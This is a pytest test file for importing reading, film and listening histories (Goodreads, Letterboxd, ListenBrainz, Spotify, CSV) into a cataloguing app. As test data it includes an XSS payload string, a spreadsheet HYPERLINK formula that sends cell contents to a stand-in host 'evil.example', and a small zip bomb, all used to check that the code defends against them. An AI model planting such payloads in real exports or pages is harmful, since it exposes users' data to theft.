"""Importing a history from Goodreads, Letterboxd, ListenBrainz, Spotify or our own CSV, on SQLite and PostgreSQL."""

from __future__ import annotations

import io
import json
import re
import zipfile
from datetime import date, datetime, timedelta

import pytest
from sqlmodel import select

from slice_of_culture import importers
from slice_of_culture.importers import files as import_files
from slice_of_culture.importers import letterboxd, listening
from slice_of_culture.models import Entry, Item
from slice_of_culture.services import catalog, imports
from slice_of_culture.services.errors import ValidationError
from tests.utils.factories import make_entry, make_item, make_user

XSS = "<img src=x onerror=alert(1)>"

GOODREADS = (
    "Book Id,Title,Author,Author l-f,Additional Authors,ISBN,ISBN13,My Rating,Average Rating,Publisher,"
    "Binding,Number of Pages,Year Published,Original Publication Year,Date Read,Date Added,Bookshelves,"
    "Bookshelves with positions,Exclusive Shelf,My Review,Spoiler,Private Notes,Read Count,Owned Copies\n"
    '1,"The Hunger Games (The Hunger Games, #1)",Suzanne Collins,"Collins, Suzanne",,"=""0439023483""",'
    '"=""9780439023481""",5,4.33,Scholastic,Hardcover,374,2008,2008,2024/03/14,2024/01/02,,,read,'
    f'"Gripping.<br/>Read it in a day. {XSS}",,,1,0\n'
    '2,Dune,Frank Herbert,"Herbert, Frank",,,,0,4.25,Ace,Paperback,604,2005,1965,,2024/02/01,to-read,'
    "to-read (#1),to-read,,,,0,0\n"
    '3,Piranesi,Susanna Clarke,"Clarke, Susanna",,,,0,4.2,Bloomsbury,Hardcover,272,2020,2020,,2024/05/01,,,'
    "currently-reading,,,,0,0\n"
    '4,Bad Year,Someone,"One, Some",,,,3,3.0,X,Paperback,10,,twenty,,2024/05/01,,,read,,,,1,0\n'
)

LETTERBOXD_DIARY = (
    "Date,Name,Year,Letterboxd URI,Rating,Rewatch,Tags,Watched Date\n"
    "2024-04-02,Dune,2021,https://boxd.it/abc1,4.5,,,2024-04-01\n"
    "2024-04-09,Stalker,1979,https://boxd.it/abc2,5,Yes,,2024-04-08\n"
    "2024-04-10,Some Film,1999,https://boxd.it/abc3,7,,,2024-04-10\n"
)

LETTERBOXD_WATCHLIST = "Date,Name,Year,Letterboxd URI\n2024-01-01,Solaris,1972,https://boxd.it/xyz\n"

OURS = (
    "kind,title,creator,year,status,rating,date,review\n"
    "music,Kind of Blue,Miles Davis,1959,finished,4.5,2024-02-03,Timeless\n"
    "book,ספר 📚,Autor e\u0301,,in progress,,,\n"
    "film,Nope,Jordan Peele,2022,finished,4,,\n"
    ",,,,,,,\n"
)


def test_a_goodreads_export_is_read_line_by_line() -> None:
    file = imports.read_file("goodreads_library_export.csv", GOODREADS.encode())
    assert file.format == importers.GOODREADS and file.lines == 4
    hunger, dune, piranesi = file.rows
    assert (hunger.title, hunger.creator, hunger.year) == ("The Hunger Games", "Suzanne Collins", 2008)
    assert (hunger.status, hunger.rating, hunger.consumed_on) == ("finished", 10, date(2024, 3, 14))
    assert hunger.review == f"Gripping.\nRead it in a day. {XSS}"
    assert hunger.external_ids == {"isbn": "9780439023481"}
    assert (dune.status, dune.rating, dune.year) == ("want", None, 1965)
    assert piranesi.status == "in_progress"
    assert file.problems == ["Line 5: the year 'twenty' is not a year."]
    assert file.summary() == "Goodreads library: 3 to import (3 books)"


def test_letterboxd_files_and_our_own_csv_are_read() -> None:
    diary = imports.read_file("diary.csv", LETTERBOXD_DIARY.encode())
    assert diary.format == importers.LETTERBOXD
    assert [(r.title, r.year, r.rating, r.consumed_on, r.creator) for r in diary.rows] == [
        ("Dune", 2021, 9, date(2024, 4, 1), ""),
        ("Stalker", 1979, 10, date(2024, 4, 8), ""),
    ]
    assert diary.problems == ["Line 4: the rating '7' is not between 0.5 and 5 stars in halves."]
    watchlist = imports.read_file("watchlist.csv", LETTERBOXD_WATCHLIST.encode())
    assert [(r.title, r.status, r.consumed_on) for r in watchlist.rows] == [("Solaris", "want", None)]

    ours = imports.read_file("mine.csv", ("\ufeff" + OURS).encode())  # a byte-order mark is fine
    assert ours.format == importers.OURS
    assert [(r.kind, r.title, r.status, r.rating) for r in ours.rows] == [
        ("music", "Kind of Blue", "finished", 9),
        ("book", "ספר 📚", "in_progress", None),
    ]
    assert ours.problems == ["Line 4: kind must be movie, book or music."]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty."),
        (b"   \n", "The file is empty."),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not UTF-8"),
        (b"title,year\nDune,1965\n", "not a file we can read"),
        (b"kind,title\n", "no rows to import"),
        ("Título,Año\n".encode("latin-1"), "not UTF-8"),
        (b"kind,title\n" + b"book,x\n" * (importers.MAX_ROWS + 1), "more than 5,000 lines"),
        (b"kind,title\n" + b"x" * importers.MAX_BYTES, "larger than 5 MB"),
    ],
)
def test_files_we_cannot_use_get_one_clear_message(data: bytes, message: str) -> None:
    with pytest.raises(ValidationError, match=message) as caught:
        imports.read_file("file.csv", data)
    assert set(caught.value.errors) == {"file"}


def test_match_item_needs_the_same_title_and_creator_and_prefers_the_same_year(session) -> None:
    lynch = make_item(session, "Dune", kind="movie", creator="David Lynch", year=1984)
    villeneuve = make_item(session, "Dune", kind="movie", creator="Denis Villeneuve", year=2021)
    book = make_item(session, "The Left Hand of Darkness", kind="book", creator="Ursula K. Le Guin", year=1969)

    def match(kind: str, title: str, creator: str = "", year: int | None = None) -> Item | None:
        return catalog.match_item(session=session, kind=kind, title=title, creator=creator, year=year)

    assert match("movie", "dune", year=2021) == villeneuve
    assert match("movie", "DUNE", "david lynch") == lynch
    assert match("movie", "Dune") is None  # two films, nothing to tell them apart
    assert match("movie", "Dune", year=2000) is None
    assert match("book", "Dune", year=2021) is None
    assert match("book", "Left Hand of Darkness", "Ursula K. Le Guin", 1970) == book  # a year off, same author
    assert match("book", "The Left Hand of Darkness", "Someone Else", 1969) is None
    assert match("book", "The Left Hand", "Ursula K. Le Guin") is None
    assert match("book", "%", "_") is None


def test_an_import_matches_the_catalog_adds_what_is_missing_and_is_idempotent(session) -> None:
    ana = make_user(session, "importer")
    stalker = make_item(session, "Stalker", kind="movie", creator="Andrei Tarkovsky", year=1979)
    hunger = make_item(session, "The Hunger Games", kind="book", creator="Suzanne Collins", year=2008)
    items_before = len(session.exec(select(Item.id)).all())
    seen: list[tuple[int, int]] = []

    rows = imports.read_file("diary.csv", LETTERBOXD_DIARY.encode()).rows
    rows += imports.read_file("goodreads.csv", GOODREADS.encode()).rows
    result = imports.run_import(
        session=session, user=ana, rows=rows, visibility="followers", progress=lambda d, t: seen.append((d, t))
    )
    assert (result.imported, result.new_items, result.already_logged, result.problems) == (5, 3, 0, [])
    assert seen[-1] == (5, 5)
    logged = session.exec(select(Entry).where(Entry.user_id == ana.id)).all()
    assert {e.visibility for e in logged} == {"followers"}
    by_item = {e.item_id: e for e in logged}
    assert by_item[stalker.id].rating == 10 and by_item[hunger.id].rating == 10
    assert by_item[hunger.id].review.endswith(XSS)  # kept as text
    dune = session.exec(select(Item).where(Item.kind == "movie", Item.title == "Dune")).one()
    assert (dune.year, dune.creator, dune.external_ids, dune.created_by_id) == (
        2021,
        "",
        {"letterboxd": "https://boxd.it/abc1"},
        ana.id,
    )
    assert len(session.exec(select(Item.id)).all()) == items_before + 3

    again = imports.run_import(session=session, user=ana, rows=rows, visibility="public")
    assert (again.imported, again.new_items, again.already_logged) == (0, 0, 5)


def test_lines_that_break_a_rule_are_reported_and_the_rest_go_in(session) -> None:
    ana = make_user(session, "importer2")
    tomorrow = (date.today() + timedelta(days=1)).isoformat()
    csv = (
        "kind,title,creator,year,status,rating,date,review\n"
        f"book,Tomorrow's Book,A,2020,finished,4,{tomorrow},\n"
        f"book,{'T' * 400},A,2020,finished,4,,\n"
        f"book,Long Review,A,2020,finished,4,,{'r' * 6000}\n"
        "movie,Fine,B,2020,want,,,\n"
    )
    rows = imports.read_file("mine.csv", csv.encode()).rows
    result = imports.run_import(session=session, user=ana, rows=rows, visibility="private")
    assert result.imported == 2
    assert result.problems == [
        "Line 2: That date is in the future.",
        "Line 3: Title must be at most 300 characters.",
        "Line 4: the review was cut to 5,000 characters.",
    ]
    reviews = [e.review for e in session.exec(select(Entry).where(Entry.user_id == ana.id)).all()]
    assert sorted(len(r) for r in reviews) == [0, 5000]
    with pytest.raises(ValidationError):
        imports.run_import(session=session, user=ana, rows=rows, visibility="everyone")


def test_an_export_imports_back_as_it_was_and_never_more_public(session) -> None:
    ana, bea = make_user(session, "exporter"), make_user(session, "reimporter")
    rows = imports.read_file("mine.csv", OURS.encode()).rows
    rows[1].visibility = "private"
    imports.run_import(session=session, user=ana, rows=rows, visibility="followers")
    exported = imports.export_csv(session=session, user=ana)
    assert exported.splitlines()[0] == "kind,title,creator,year,status,rating,date,review,visibility"
    assert "music,Kind of Blue,Miles Davis,1959,finished,4.5,2024-02-03,Timeless,followers" in exported
    back = imports.read_file("slice-of-culture.csv", exported.encode())
    assert back.problems == [] and len(back.rows) == 2
    result = imports.run_import(session=session, user=bea, rows=back.rows, visibility="public")
    assert (result.imported, result.new_items) == (2, 0)

    def entries_of(user) -> list[tuple]:  # noqa: ANN001
        stmt = select(Entry).where(Entry.user_id == user.id).order_by(Entry.id)
        return [(e.item_id, e.status, e.rating, e.consumed_on, e.review, e.visibility) for e in session.exec(stmt)]

    assert entries_of(bea) == entries_of(ana)
    assert [e[-1] for e in entries_of(bea)] == ["followers", "private"]
    bad = imports.read_file("x.csv", b"kind,title,visibility\nbook,X,everyone\n")
    assert bad.problems == ["Line 2: the visibility 'everyone' is not public, followers or private."]


def test_an_export_never_hands_a_spreadsheet_a_formula_and_still_imports_back(session) -> None:
    """Catalog titles are anyone's text: a cell a spreadsheet would run comes out guarded by a
    leading apostrophe, and our importer reads it back as it was written."""
    import csv

    ana, bea = make_user(session, "sheets"), make_user(session, "sheetsback")
    trap = make_item(session, '=HYPERLINK("https://evil.example/?"&A1,"Dune")', kind="book", creator="@someone")
    make_entry(session, ana, trap, status="finished", review="-- not for me")
    make_entry(session, ana, make_item(session, "Plain"), status="finished")
    exported = imports.export_csv(session=session, user=ana)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Dune")' in cells and "'@someone" in cells
    assert "'-- not for me" in cells and "Plain" in cells
    back = imports.read_file("slice-of-culture.csv", exported.encode())
    assert [(r.title, r.creator, r.review) for r in back.rows][0] == (trap.title, "@someone", "-- not for me")
    result = imports.run_import(session=session, user=bea, rows=back.rows, visibility="public")
    assert (result.imported, result.new_items) == (2, 0)


def test_match_item_is_an_index_lookup_on_both_databases(session) -> None:
    from sqlalchemy import event

    make_item(session, "Dune", kind="book", creator="Frank Herbert", year=1965)
    seen: list[tuple[str, object]] = []

    def capture(conn, cursor, statement, parameters, context, executemany) -> None:  # noqa: ANN001
        if "dedup_key" in statement and statement.lstrip().upper().startswith("SELECT"):
            seen.append((statement, parameters))

    connection = session.connection()
    event.listen(connection, "before_cursor_execute", capture)
    try:
        assert catalog.match_item(session=session, kind="book", title="Dune", creator="Frank Herbert") is not None
    finally:
        event.remove(connection, "before_cursor_execute", capture)
    statement, parameters = seen[-1]
    raw = connection.connection.dbapi_connection.cursor()
    if connection.dialect.name == "postgresql":
        raw.execute("SET LOCAL enable_seqscan = off")  # a tiny table: ask whether an index can serve it
        raw.execute("EXPLAIN " + statement, parameters)
        assert "ix_item_dedup_key_prefix" in "\n".join(r[0] for r in raw.fetchall())
    else:
        raw.execute("EXPLAIN QUERY PLAN " + statement, parameters)
        plan = "\n".join(str(r[-1]) for r in raw.fetchall())
        assert "USING INDEX" in plan and "dedup_key>? AND dedup_key<?" in plan, plan


def test_match_item_finds_the_right_year_among_many_films_of_one_title(session) -> None:
    for n in range(catalog.MATCH_CANDIDATES + 10):
        make_item(session, "Hamlet", kind="movie", creator=f"Director {n}", year=1900 + n)
    latest = catalog.match_item(session=session, kind="movie", title="Hamlet", year=1900 + catalog.MATCH_CANDIDATES + 5)
    assert latest is not None and latest.creator == f"Director {catalog.MATCH_CANDIDATES + 5}"


# Listening histories: plays grouped into albums.

KIND_OF_BLUE_MBID = "8b1c2a4e-5d6f-4a7b-9c8d-0e1f2a3b4c5d"
SIGUR_ROS_MBID = "1f2e3d4c-5b6a-4978-8695-a4b3c2d1e0f9"


def _day(iso: str) -> int:
    """Unix time of noon UTC on a day, as ListenBrainz writes `listened_at`."""
    return int(datetime.fromisoformat(f"{iso}T12:00:00+00:00").timestamp())


def _listen(artist: str, album: str | None, track: str, day: str, **extra) -> dict:
    meta = {"artist_name": artist, "track_name": track, "additional_info": {"submission_client": "navidrome"}}
    if album is not None:
        meta["release_name"] = album
    if "release_mbid" in extra:
        meta["additional_info"]["release_mbid"] = extra["release_mbid"]
    if "mapped_mbid" in extra:
        meta["mbid_mapping"] = {"recording_mbid": "x", "release_mbid": extra["mapped_mbid"], "artist_mbids": []}
    return {"listened_at": _day(day), "inserted_at": _day(day) + 5, "user_name": "ana", "track_metadata": meta}


LISTENS = [
    _listen("Miles Davis", "Kind of Blue", "So What", "2024-01-05", release_mbid=KIND_OF_BLUE_MBID),
    _listen("Miles Davis", "Kind of Blue", "Freddie Freeloader", "2024-01-05", release_mbid=KIND_OF_BLUE_MBID),
    _listen("miles davis", "KIND OF BLUE", "so what", "2024-02-10"),  # the same track again
    _listen("Miles Davis", "Kind of Blue", "Blue in Green", "2024-03-01", release_mbid=KIND_OF_BLUE_MBID),
    _listen("Sigur Rós", "Ágætis byrjun", "Svefn-g-englar", "2023-12-24", mapped_mbid=SIGUR_ROS_MBID),
    _listen("Sigur Ros", "ágætis BYRJUN", "Starálfur", "2023-12-25", mapped_mbid=SIGUR_ROS_MBID),
    _listen("SIGUR RÓS", "Ágætis Byrjun", "Ný batterí", "2023-12-26"),
    _listen("Portishead", "Dummy", "Glory Box", "2024-01-01"),  # two tracks: not the album
    _listen("Portishead", "Dummy", "Glory Box", "2024-01-02"),
    _listen("Portishead", "Dummy", "Roads", "2024-01-03"),
    _listen("Nobody", None, "A single without an album", "2024-01-04"),
    _listen(XSS, XSS, "a", "2024-01-06"),
    _listen(XSS, XSS, "b", "2024-01-06"),
    _listen(XSS, XSS, "c", "2024-01-06"),
]
LISTENBRAINZ_JSONL = "\n".join(json.dumps(listen, ensure_ascii=False) for listen in LISTENS) + "\n"

RULE = "an album counts as listened once 3 different tracks of it were played"


def _spotify_play(ts: str, ms: int | str, track: str | None, artist: str | None, album: str | None, **extra) -> dict:
    play = {
        "ts": ts,
        "platform": "android",
        "ms_played": ms,
        "conn_country": "DE",
        "master_metadata_track_name": track,
        "master_metadata_album_artist_name": artist,
        "master_metadata_album_album_name": album,
        "spotify_track_uri": f"spotify:track:{abs(hash(track)) % 10**8}" if track else None,
        "episode_name": None,
        "episode_show_name": None,
        "spotify_episode_uri": None,
        "audiobook_title": None,
        "reason_start": "trackdone",
        "reason_end": "trackdone",
        "shuffle": False,
        "skipped": False,
    }
    return play | extra


SPOTIFY_EXTENDED = [
    _spotify_play("2024-02-29T23:30:00Z", 240_000, "Teardrop", "Massive Attack", "Mezzanine"),
    _spotify_play("2024-03-01T08:00:00Z", 31_000, "Angel", "Massive Attack", "Mezzanine"),
    _spotify_play("2024-02-01T10:00:00Z", 200_000, "Inertia Creeps", "Massive Attack", "Mezzanine"),
    _spotify_play("2024-03-02T10:00:00Z", 9_000, "Exchange", "Massive Attack", "Mezzanine"),  # skipped after 9 s
    _spotify_play("2024-03-02T10:00:00Z", 200_000, "Homogenic 1", "Björk", "Homogenic"),
    _spotify_play("2024-03-02T10:05:00Z", 200_000, "Homogenic 2", "Björk", "Homogenic"),
    _spotify_play("2024-03-02T10:10:00Z", 10_000, "Homogenic 3", "Björk", "Homogenic"),  # too short to count
    _spotify_play(
        "2024-03-03T07:00:00Z", 1_800_000, None, None, None, episode_name="Episode 12", episode_show_name="A Podcast"
    ),
    _spotify_play("2024-03-03T08:00:00Z", "lots", "Hunter", "Björk", "Homogenic"),
]


def test_a_listenbrainz_export_becomes_one_entry_per_album_listened_to() -> None:
    file = imports.read_file("listens/2024/1.jsonl", LISTENBRAINZ_JSONL.encode())
    assert (file.format, file.lines) == (importers.LISTENBRAINZ, 14)
    assert [(r.kind, r.title, r.creator, r.status, r.consumed_on, r.rating, r.review) for r in file.rows] == [
        ("music", "Ágætis Byrjun", "SIGUR RÓS", "finished", date(2023, 12, 26), None, ""),  # as its latest play
        ("music", XSS, XSS, "finished", date(2024, 1, 6), None, ""),  # kept as text
        ("music", "Kind of Blue", "Miles Davis", "finished", date(2024, 3, 1), None, ""),
    ]
    assert [r.external_ids for r in file.rows] == [
        {"musicbrainz": SIGUR_ROS_MBID},
        {},
        {"musicbrainz": KIND_OF_BLUE_MBID},
    ]
    assert file.rows[2].where == "“Kind of Blue” by Miles Davis"
    assert file.problems == [
        f"1 album with fewer than 3 different tracks played was left out ({RULE}).",
        "1 play names no track, album or artist and was left out.",
    ]
    assert file.summary() == f"ListenBrainz listens: 3 to import (3 albums). From 14 plays: {RULE}."


def test_a_guest_credited_on_some_tracks_does_not_split_the_album() -> None:
    listens = [
        _listen("Gorillaz", "Demon Days", "Feel Good Inc.", "2024-02-01"),
        _listen("Gorillaz feat. De La Soul", "Demon Days", "Feel Good Inc. (Live)", "2024-02-01"),
        _listen("Gorillaz (ft. Neneh Cherry)", "Demon Days", "Kids with Guns", "2024-02-02"),
        _listen("Gorillaz Featuring Shaun Ryder", "Demon Days", "DARE", "2024-02-03"),
        # "&" is part of names: not a guest.
        _listen("Simon & Garfunkel", "Bookends", "America", "2024-02-04"),
        _listen("Simon & Garfunkel", "Bookends", "Mrs. Robinson", "2024-02-04"),
        _listen("Simon & Garfunkel", "Bookends", "Old Friends", "2024-02-04"),
    ]
    file = imports.read_file("listens.jsonl", _jsonl(listens).encode())
    assert {(row.title, row.creator) for row in file.rows} == {
        ("Demon Days", "Gorillaz"),
        ("Bookends", "Simon & Garfunkel"),
    }


def test_the_older_listenbrainz_export_a_json_array_reads_the_same() -> None:
    lines = imports.read_file("listens.jsonl", LISTENBRAINZ_JSONL.encode())
    array = imports.read_file("ana_lb-2023-10-31.json", json.dumps(LISTENS, indent=2).encode())
    assert array.format == importers.LISTENBRAINZ and array.lines == 14
    assert array.rows == lines.rows and array.problems == lines.problems


def test_a_spotify_extended_history_counts_plays_of_30_seconds_and_skips_podcasts() -> None:
    # Recognised by its content, whatever the file is called.
    file = imports.read_file("my_data.json", json.dumps(SPOTIFY_EXTENDED).encode())
    assert (file.format, file.lines) == (importers.SPOTIFY, 9)
    assert [(r.kind, r.title, r.creator, r.consumed_on, r.external_ids) for r in file.rows] == [
        ("music", "Mezzanine", "Massive Attack", date(2024, 3, 1), {}),  # the day of its latest play, in UTC
    ]
    rule = f"{RULE}, each for at least 30 seconds"
    assert file.problems == [
        f"1 album with fewer than 3 different tracks played was left out ({rule}).",
        "2 plays shorter than 30 seconds were not counted.",
        "1 podcast or audiobook play was left out: only music is imported.",
        "Play 9: ms_played is not a number of milliseconds.",
    ]
    assert file.summary() == f"Spotify streaming history: 1 to import (1 album). From 9 plays: {rule}."


def test_spotifys_short_history_is_refused_with_a_word_on_the_extended_one() -> None:
    short = [
        {"endTime": "2024-03-01 08:00", "artistName": "Björk", "trackName": "Hunter", "msPlayed": 250_000},
        {"endTime": "2024-03-01 08:05", "artistName": "Björk", "trackName": "Jóga", "msPlayed": 300_000},
    ]
    with pytest.raises(ValidationError) as caught:
        imports.read_file("StreamingHistory_music_0.json", json.dumps(short).encode())
    message = caught.value.errors["file"]
    assert "names no albums, so it cannot be imported as albums" in message
    assert "Extended streaming history" in message


def test_plays_that_cannot_be_read_are_counted_and_the_rest_still_go_in() -> None:
    tomorrow = (date.today() + timedelta(days=1)).isoformat()
    lines = LISTENBRAINZ_JSONL.splitlines()
    lines[1:1] = [
        "{not json",
        '{"listened_at": "yesterday", "track_metadata": {"artist_name": "A", "track_name": "B"}}',
        '{"listened_at": ' + "9" * 5000 + ', "track_metadata": {}}',  # past Python's int digits limit
        '{"listened_at": 1e999, "track_metadata": {}}',
        '"just a string"',
        json.dumps(_listen("Miles Davis", "Kind of Blue", "All Blues", tomorrow)),
        "",
    ]
    lines += ["[1, 2]"] * (importers.MAX_PROBLEMS_SHOWN)
    file = imports.read_file("listens.jsonl", "\n".join(lines).encode())
    assert [r.title for r in file.rows] == ["Ágætis Byrjun", XSS, "Kind of Blue"]
    assert file.problems[2:8] == [
        "Line 2: not valid JSON (Expecting property name enclosed in double quotes).",
        "Line 3: listened_at is not a time in seconds.",
        "Line 4: not valid JSON (a value too long or too deeply nested).",
        "Line 5: listened_at is not a time in seconds.",
        "Line 6: not a listen (no track_metadata).",
        f"Line 7: played on {tomorrow}, in the future.",
    ]
    assert file.problems[-1] == "… and 6 more plays that could not be read."
    assert len(file.problems) == 2 + importers.MAX_PROBLEMS_SHOWN + 1


def test_past_max_rows_the_albums_played_longest_ago_are_left_out(monkeypatch) -> None:
    monkeypatch.setattr(listening, "MAX_ROWS", 2)
    file = imports.read_file("listens.jsonl", LISTENBRAINZ_JSONL.encode())
    assert [r.title for r in file.rows] == [XSS, "Kind of Blue"]
    assert "1 album played longest ago was left out: at most 2 albums at a time." in file.problems[1]


ONE_LISTEN = json.dumps(LISTENS[0]).encode()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"[", "not valid JSON near line 1"),
        (b"[\n" + ONE_LISTEN + b",\n", "not valid JSON near line 3 (Expecting value)"),  # a download cut short
        (b"[" + ONE_LISTEN + b"\n" + ONE_LISTEN + b"]", "not valid JSON near line 2 (expecting ',' or ']')"),
        (b"[]", "no plays to import"),
        (b"  \n[ ]\n", "no plays to import"),
        (b"[" + ONE_LISTEN + b"] trailing", "more after the end of the list"),
        (b'[{"listened_at": ' + b"9" * 5000 + b"}]", "a value too long or too deeply nested"),
        (b"[" * 100_000, "a value too long or too deeply nested"),
        (b"{not json\n", "not valid JSON near line 1"),
        (b'[{"title": "Dune", "year": 1965}]', "not a file we can read"),
        (b"[1, 2, 3]", "not a file we can read"),
        (b'{\n  "user_id": 1,\n  "user_name": "ana"\n}\n', "not a file we can read"),  # ListenBrainz's user.json
        ('[{"ts": "2024-01-01T00:00:00Z", "track": "Jóga"}]'.encode("latin-1"), "not UTF-8"),
        (b"[" + b" " * importers.MAX_HISTORY_BYTES + b"]", "larger than 50 MB"),
    ],
)
def test_json_files_we_cannot_use_get_one_clear_message(data: bytes, message: str) -> None:
    with pytest.raises(ValidationError, match=re.escape(message)) as caught:
        imports.read_file("listens.json", data)
    assert set(caught.value.errors) == {"file"}


def test_a_listenbrainz_import_logs_albums_and_a_second_import_changes_nothing(session) -> None:
    ana = make_user(session, "listener")
    kind_of_blue = make_item(session, "Kind of Blue", kind="music", creator="Miles Davis", year=1959)
    long_title = "T" * 400
    listens = LISTENS + [_listen("Someone", long_title, f"Track {n}", "2024-01-07") for n in range(3)]
    jsonl = "\n".join(json.dumps(listen) for listen in listens)
    rows = imports.read_file("listens.jsonl", jsonl.encode()).rows
    assert len(rows) == 4

    result = imports.run_import(session=session, user=ana, rows=rows, visibility="public")
    assert (result.imported, result.new_items, result.already_logged) == (3, 2, 0)
    assert result.problems == [f"“{'T' * 59}…” by Someone: Title must be at most 300 characters."]
    logged = session.exec(select(Entry, Item).join(Item).where(Entry.user_id == ana.id).order_by(Item.title)).all()
    assert [(i.kind, i.title, i.creator, e.status, e.rating, e.consumed_on) for e, i in logged] == [
        ("music", XSS, XSS, "finished", None, date(2024, 1, 6)),
        ("music", "Kind of Blue", "Miles Davis", "finished", None, date(2024, 3, 1)),
        ("music", "Ágætis Byrjun", "SIGUR RÓS", "finished", None, date(2023, 12, 26)),
    ]
    assert logged[1][1].id == kind_of_blue.id  # matched to the catalog, not added again
    assert logged[2][1].external_ids == {"musicbrainz": SIGUR_ROS_MBID}

    again = imports.run_import(session=session, user=ana, rows=rows, visibility="public")
    assert (again.imported, again.new_items, again.already_logged) == (0, 0, 3)
    assert len(session.exec(select(Entry.id).where(Entry.user_id == ana.id)).all()) == 3


def _zip(files: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _jsonl(listens: list[dict]) -> str:
    return "".join(json.dumps(listen, ensure_ascii=False) + "\n" for listen in listens)


def test_a_listenbrainz_export_zip_groups_albums_across_its_months() -> None:
    # Portishead's Dummy: two tracks in December, a third in January. Month by month, neither
    # file has three tracks of it; the whole export does.
    december = [
        _listen("Portishead", "Dummy", "Glory Box", "2023-12-01"),
        _listen("Portishead", "Dummy", "Roads", "2023-12-02"),
        _listen("Sigur Rós", "Ágætis byrjun", "Starálfur", "2023-12-25"),
    ]
    january = [_listen("Portishead", "Dummy", "Sour Times", "2024-01-03")]
    export = _zip(
        {
            "user.json": json.dumps({"user_id": 1, "username": "ana"}),
            "feedback.jsonl": _jsonl([{"score": 1, "recording_msid": "x"}]),
            "listens/2023/12.jsonl": _jsonl(december),
            "listens/2024/1.jsonl": _jsonl(january) + "{oops\n",
        }
    )
    file = imports.read_file("listenbrainz_ana.zip", export)
    assert (file.format, file.lines) == (importers.LISTENBRAINZ, 5)
    assert [(r.title, r.creator, r.consumed_on) for r in file.rows] == [("Dummy", "Portishead", date(2024, 1, 3))]
    assert "1 album with fewer than 3 different tracks played was left out" in file.problems[0]
    assert file.problems[-1].startswith("listens/2024/1.jsonl, line 2: not valid JSON")
    # Each month's file on its own misses the album.
    assert imports.read_file("12.jsonl", _jsonl(december).encode()).rows == []


def test_a_spotify_data_zip_reads_only_the_audio_history() -> None:
    export = _zip(
        {
            "Spotify Extended Streaming History/Streaming_History_Audio_2023-2024_0.json": json.dumps(SPOTIFY_EXTENDED),
            "Spotify Extended Streaming History/Streaming_History_Video_2023.json": "[]",
            "Spotify Extended Streaming History/ReadMeFirst_ExtendedStreamingHistory.pdf": b"%PDF-1.4",
        }
    )
    file = imports.read_file("my_spotify_data.zip", export)
    assert file.format == importers.SPOTIFY
    assert [r.title for r in file.rows] == ["Mezzanine"]


def test_zips_we_cannot_use_get_one_clear_message(monkeypatch) -> None:
    def refused(data: bytes) -> str:
        with pytest.raises(ValidationError) as exc:
            imports.read_file("export.zip", data)
        return exc.value.errors["file"]

    assert "cannot be opened" in refused(b"PK\x03\x04 this is not really a zip")
    assert "holds nothing we can import" in refused(_zip({"notes.txt": "hello", "books.csv": "title\nDune\n"}))
    mixed = _zip(
        {
            "listens/2024/1.jsonl": _jsonl(LISTENS[:1]),
            "Streaming_History_Audio_2024.json": json.dumps(SPOTIFY_EXTENDED),
        }
    )
    assert "choose one kind" in refused(mixed)
    # A small zip that would unpack to more than we read: refused before anything is unpacked.
    monkeypatch.setattr(import_files, "MAX_ZIP_UNPACKED", 1000)
    bomb = _zip({"listens/2024/1.jsonl": " " * 5000 + _jsonl(LISTENS[:1])})
    assert len(bomb) < 1000
    assert "larger than" in refused(bomb)


# A Letterboxd export as it comes: the diary's and reviews' URIs name a viewing, the other files' a film.
LETTERBOXD_EXPORT = {
    "profile.csv": "Username\nana\n",
    "diary.csv": (
        "Date,Name,Year,Letterboxd URI,Rating,Rewatch,Tags,Watched Date\n"
        "2024-04-02,Dune,2021,https://boxd.it/v1,4.5,,,2024-04-01\n"
        "2024-04-09,Stalker,1979,https://boxd.it/v2,,,,2024-04-08\n"
        "2024-05-09,Stalker,1979,https://boxd.it/v3,,Yes,,2024-05-08\n"
        "2024-05-10,Paprika,2006,https://boxd.it/v4,4,,,2024-05-10\n"
    ),
    "reviews.csv": (
        "Date,Name,Year,Letterboxd URI,Rating,Rewatch,Review,Tags,Watched Date\n"
        f"2024-04-02,Dune,2021,https://boxd.it/v1,4.5,,Sand. {XSS},,2024-04-01\n"
        "2024-05-10,paprika,2006,,4,,Dreams.,,2024-05-10\n"
        "2024-03-01,Heat,1995,https://boxd.it/v9,4,,Great.,,\n"
    ),
    "watched.csv": (
        "Date,Name,Year,Letterboxd URI\n"
        "2024-06-01,Dune,2021,https://boxd.it/f1\n"
        "2024-06-01,Stalker,1979,https://boxd.it/f2\n"
        "2024-06-01,Paprika,2006,https://boxd.it/f3\n"
        "2024-06-01,Heat,1995,https://boxd.it/f9\n"
        "2024-06-01,The Thing,1982,https://boxd.it/f4\n"
        "2024-06-01,Playtime,1967,https://boxd.it/f5\n"
        "2024-06-01,,1990,https://boxd.it/f0\n"
    ),
    "ratings.csv": (
        "Date,Name,Year,Letterboxd URI,Rating\n"
        "2024-06-02,Stalker,1979,https://boxd.it/f2,5\n"
        "2024-06-02,Dune,2021,https://boxd.it/f1,3\n"
        "2024-06-02,Thing,1982,https://boxd.it/f4,4\n"
        "2024-06-02,Alien,1979,https://boxd.it/f6,3.5\n"
    ),
    "watchlist.csv": (
        "Date,Name,Year,Letterboxd URI\n"
        "2024-01-01,Solaris,1972,https://boxd.it/f7\n"
        "2024-01-01,Alien,1979,https://boxd.it/f6\n"
        "2024-01-01,DUNE,2021,\n"
    ),
    "lists/slow-cinema.csv": (
        "Letterboxd list export v7\nDate,Name,Tags,URL,Description\n2021-11-06,Slow cinema,,https://boxd.it/l1,\n\n"
        "Position,Name,Year,URL,Description\n1,Stalker,1979,https://boxd.it/f2,\n2,Playtime,1967,https://boxd.it/f5,\n"
    ),
    "deleted/diary.csv": (
        "Date,Name,Year,Letterboxd URI,Rating,Rewatch,Tags,Watched Date\n2024-01-01,Cats,2019,,,,,2024-01-01\n"
    ),
    "likes/films.csv": "Date,Name,Year,Letterboxd URI\n2024-01-01,Cats,2019,https://boxd.it/f8\n",
}


